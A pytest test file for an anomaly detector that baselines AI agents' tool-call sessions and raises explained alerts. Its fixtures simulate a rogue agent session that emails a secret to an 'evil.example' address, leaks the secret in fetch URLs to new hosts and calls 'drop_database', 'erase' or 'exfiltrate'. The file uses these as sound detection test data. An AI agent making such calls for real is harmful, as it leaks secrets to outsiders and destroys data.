"""Anomalies: explained, and within their budget of false alarms (acceptance 24, 26, 27)."""

from __future__ import annotations

import json
import math
import random
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from sessions import START, RecordingMaker, penstock

TOOLS = ("search", "read_file", "send_email", "list_rows", "fetch", "create_issue", "delete_row")
SECRET = "correct-horse-battery"


def usual_session(made: RecordingMaker, name: str, number: int, chance: random.Random) -> None:
    """A session as most are: few tools, places with a long tail, now and then an error."""
    when = START + number * 60 + chance.gauss(12, 2.5) * 3600
    for _ in range(1 + int(chance.expovariate(0.25))):
        tool = TOOLS[min(int(chance.expovariate(0.7)), len(TOOLS) - 1)]
        arguments: dict[str, object] = {"query": SECRET * chance.randint(1, 6)}
        if tool == "send_email":
            arguments = {"to": f"a@d{int(chance.paretovariate(0.7))}.example", "body": SECRET}
        elif tool == "fetch":
            arguments = {"url": f"https://h{int(chance.paretovariate(0.8))}.example/x", "n": 1}
        elif tool == "read_file":
            arguments = {"path": f"/data/p{int(chance.paretovariate(1))}/notes.txt"}
        if chance.random() < 0.02:
            arguments[f"extra{chance.randint(1, 50)}"] = True
        when += chance.expovariate(0.05)
        made.call(name, when, tool, arguments, is_error=chance.random() < 0.05)


def recording(path: Path, count: int, seed: int, prefix: str = "s") -> Path:
    chance = random.Random(seed)
    with RecordingMaker(path) as made:
        for number in range(count):
            usual_session(made, f"{prefix}{number}", number, chance)
    return path


@pytest.fixture(scope="module")
def work(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """2,000 sessions and their baseline."""
    work = tmp_path_factory.mktemp("learning")
    recording(work / "usual.jsonl", 2000, seed=1)
    said = penstock("baseline", str(work / "usual.jsonl"), "--out", str(work / "b")).stdout
    assert "1,000 sessions make the tables" in said
    assert "1,000 calibrate" in said
    return work


def test_acceptance_24_alerts_stay_within_the_budget_of_false_alarms(work: Path) -> None:
    count, budget = 1000, 1 / 50
    recording(work / "rest.jsonl", count, seed=2)
    words = ["anomalies", str(work / "rest.jsonl"), "--baseline", str(work / "b"), "--format", "json"]
    done = subprocess.run(
        [sys.executable, "-m", "penstock", *words, "--budget", "1/50 sessions"],
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    alerted = {json.loads(line)["session"] for line in done.stdout.splitlines()}
    bound = count * budget + 1.645 * math.sqrt(count * budget * (1 - budget))
    assert len(alerted) <= bound
    assert done.returncode == (3 if alerted else 0)
    assert done.stderr == ""  # no kind is silent: 2,000 sessions are enough for this budget


def _odd(path: Path) -> int:
    """A usual session and an odd one; the number of its first odd message."""
    with RecordingMaker(path) as made:
        usual_session(made, "fine", 0, random.Random(3))
        noon = START + 12 * 3600
        made.call("odd", noon, "send_email", {"to": "a@d1.example", "body": "x"})
        first = made.call("odd", noon + 30, "send_email", {"to": "me@evil.example", "body": SECRET})
        for host in range(12):
            made.call(
                "odd", noon + 60 + host * 20, "fetch", {"url": f"https://new{host}.example/{SECRET}", "n": 1}
            )
        made.call("odd", noon + 900, "drop_database", {"sure": SECRET})
    return first


def test_acceptance_27_an_alert_says_what_is_unusual_and_names_its_first_message(work: Path) -> None:
    first = _odd(work / "odd.jsonl")
    words = ["anomalies", str(work / "odd.jsonl"), "--baseline", str(work / "b"), "--budget", "1/50"]
    lines = penstock(*words, "--format", "json", code=3).stdout.splitlines()
    alerts = [json.loads(line) for line in lines]
    assert all(
        set(alert) == {"v", "at", "session", "group", "kind", "p", "baseline", "why", "seen_first"}
        for alert in alerts
    )
    assert {alert["session"] for alert in alerts} == {"odd"}
    assert {"tool", "place"} <= {alert["kind"] for alert in alerts}
    about = alerts[0]["baseline"]
    assert about["sessions"] == 1000
    assert about["calls"] > 1000
    assert about["since"].startswith("2026-")
    tool = next(alert for alert in alerts if alert["kind"] == "tool")
    assert tool["why"] == f"tool drop_database, never in 1,000 sessions ({about['calls']:,} calls)"
    subjects = [(alert["session"], alert["kind"], alert["why"]) for alert in alerts]
    assert len(set(subjects)) == len(subjects)
    # Every alert leads to the very message.
    for alert in alerts:
        shown = penstock("why", str(work / "odd.jsonl"), str(alert["seen_first"])).stdout
        assert "tools/call" in shown
    assert all(alert["seen_first"] >= first for alert in alerts)
    text = penstock(*words, code=3).stdout
    assert text.splitlines()[-1].startswith("2 sessions: ")


def test_acceptance_27_no_argument_value_is_kept_but_places(work: Path) -> None:
    kept = (work / "b").read_bytes()
    assert SECRET.encode() not in kept
    assert b"example" not in kept  # in the baseline not even places: digests of them
    assert b"send_email" not in kept
    assert len(kept) < 8 << 20
    assert stat.S_IMODE((work / "b").stat().st_mode) == 0o600
    _odd(work / "kept.jsonl")
    done = penstock(
        *("anomalies", str(work / "kept.jsonl"), "--baseline", str(work / "b"), "--budget", "1/50"), code=3
    )
    assert SECRET not in done.stdout
    assert "new3.example" in done.stdout


def test_acceptance_26_ten_sessions_raise_no_alert_and_it_is_said_what_is_missing(tmp_path: Path) -> None:
    recording(tmp_path / "few.jsonl", 10, seed=4)
    penstock("baseline", str(tmp_path / "few.jsonl"), "--out", str(tmp_path / "b"))
    recording(tmp_path / "other.jsonl", 50, seed=5)
    done = penstock("anomalies", str(tmp_path / "other.jsonl"), "--baseline", str(tmp_path / "b"))
    assert done.stdout == "50 sessions: 0 alerts in 0 of them.\n"
    assert "This budget needs 8,998 baseline sessions; 8,988 are missing" in done.stderr
    assert "A larger budget or fewer kinds to watch need fewer" in done.stderr


def test_there_is_no_baseline_of_nothing(tmp_path: Path) -> None:
    recording(tmp_path / "none.jsonl", 0, seed=3)
    said = penstock("baseline", str(tmp_path / "none.jsonl"), "--out", str(tmp_path / "b"), code=1).stderr
    assert said.startswith("Error: There is no session to learn from\n0 sessions with calls were found")
    assert not (tmp_path / "b").exists()


def test_sessions_in_which_something_was_refused_are_not_learned(tmp_path: Path) -> None:
    with RecordingMaker(tmp_path / "r.jsonl") as made:
        for number in range(20):
            made.call(f"s{number}", START + number, "search", {"q": "x"})
        made.call("bad", START + 30, "erase", {}, verdict="deny")
        made.call("bad", START + 31, "exfiltrate", {})
        made.call("told", START + 32, "exfiltrate", {})
    (tmp_path / "alerts").write_text('{"session":"told"}\n')
    words = ["baseline", str(tmp_path / "r.jsonl"), "--out", str(tmp_path / "b")]
    said = penstock(*words, "--alerts", str(tmp_path / "alerts")).stdout
    assert said.startswith("22 sessions, 2 of them left out")
    assert "(1 tools, 0 places, 1 shapes)" in said


@pytest.mark.parametrize(
    "content",
    [b"", b"{}", b"[]", b'{"penstock":"recording"}', b'{"penstock":"baseline","groups":{"":{"hours":[]}}}'],
)
def test_what_is_no_baseline_is_refused(content: bytes, tmp_path: Path) -> None:
    recording(tmp_path / "r.jsonl", 1, seed=1)
    (tmp_path / "b").write_bytes(content)
    done = penstock("anomalies", str(tmp_path / "r.jsonl"), "--baseline", str(tmp_path / "b"), code=1)
    assert "baseline" in done.stderr
    assert "Traceback" not in done.stderr
